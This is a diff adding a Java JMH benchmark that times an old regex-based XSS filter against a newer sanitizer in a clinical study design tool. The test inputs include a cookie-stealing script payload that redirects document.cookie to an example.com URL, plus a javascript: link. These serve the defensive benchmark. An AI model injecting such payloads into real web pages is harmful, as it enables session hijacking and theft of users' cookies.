@@ -0,0 +1,100 @@
+/*
+ * Copyright © 2017-2018 Harvard Pilgrim Health Care Institute (HPHCI) and its Contributors.
+ * Permission is hereby granted, free of charge, to any person obtaining a copy of this software and
+ * associated documentation files (the "Software"), to deal in the Software without restriction, including
+ * without limitation the rights to use, copy, modify, merge, publish, distribute, sublicense, and/or sell copies
+ * of the Software, and to permit persons to whom the Software is furnished to do so, subject to the
+ * following conditions:
+ *
+ * The above copyright notice and this permission notice shall be included in all copies or substantial
+ * portions of the Software.
+ *
+ * Funding Source: Food and Drug Administration ("Funding Agency") effective 18 September 2014 as Contract no.
+ * HHSF22320140030I/HHSF22301006T (the "Prime Contract").
+ *
+ * THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+ * IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+ * FITNESS FOR A PARTICULAR PURPOSE AND NON-INFRINGEMENT. IN NO EVENT SHALL
+ * THE AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR
+ * OTHER LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE,
+ * ARISING FROM, OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR
+ * OTHER DEALINGS IN THE SOFTWARE.
+ */
+package com.fdahpstudydesigner.util;
+
+import java.util.concurrent.TimeUnit;
+import org.openjdk.jmh.annotations.Benchmark;
+import org.openjdk.jmh.annotations.BenchmarkMode;
+import org.openjdk.jmh.annotations.Fork;
+import org.openjdk.jmh.annotations.Measurement;
+import org.openjdk.jmh.annotations.Mode;
+import org.openjdk.jmh.annotations.OutputTimeUnit;
+import org.openjdk.jmh.annotations.Param;
+import org.openjdk.jmh.annotations.Scope;
+import org.openjdk.jmh.annotations.Setup;
+import org.openjdk.jmh.annotations.State;
+import org.openjdk.jmh.annotations.Warmup;
+
+/**
+ * Compares the {@code replaceAll} chain RequestWrapper ran on every parameter before {@link
+ * XssSanitizer} with {@link XssSanitizer#clean(String)}. The payloads are the kinds of values the
+ * study forms post: a short title, a rich text description from the editor and a value carrying a
+ * script.
+ *
+ * <p>Run with {@code mvn -P benchmark compile exec:exec}.
+ */
+@State(Scope.Benchmark)
+@BenchmarkMode(Mode.AverageTime)
+@OutputTimeUnit(TimeUnit.NANOSECONDS)
+@Warmup(iterations = 3, time = 2)
+@Measurement(iterations = 5, time = 2)
+@Fork(1)
+public class XssSanitizerBenchmark {
+
+  private static final String TITLE = "Daily Symptom Diary - Week 1";
+
+  private static final String RICH_TEXT =
+      "<p><span style=\"font-size: 14px;\">Thank you for taking part in this study. Each day you"
+          + " will be asked to record your symptoms, the medication you took and how well you"
+          + " slept.</span></p><ul><li>It takes about 5 minutes</li><li>You can skip any question"
+          + "</li><li>Your answers are stored securely</li></ul><p>For questions, email <a"
+          + " href=\"mailto:study@example.com\">study@example.com</a>.</p>";
+
+  private static final String SCRIPT =
+      "<p>Welcome</p><script type=\"text/javascript\">document.location='http://example.com/?c='"
+          + "+document.cookie</script><a href=\"javascript:alert(1)\">details</a>";
+
+  @Param({"title", "richText", "script"})
+  public String payload;
+
+  private String value;
+
+  @Setup
+  public void setUp() {
+    switch (payload) {
+      case "title":
+        value = TITLE;
+        break;
+      case "richText":
+        value = RICH_TEXT;
+        break;
+      default:
+        value = SCRIPT;
+    }
+  }
+
+  @Benchmark
+  public String legacyClean() {
+    return value
+        .replaceAll("eval\\((.*)\\)", "")
+        .replaceAll("[\\\"\\\'][\\s]*javascript:(.*)[\\\"\\\']", "\"\"")
+        .replaceAll("(?i)<script.*?>.*?<script.*?>", "")
+        .replaceAll("(?i)<script.*?>.*?</script.*?>", "")
+        .replaceAll("(?i)<.*?javascript:.*?>.*?</.*?>", "");
+  }
+
+  @Benchmark
+  public String clean() {
+    return XssSanitizer.clean(value);
+  }
+}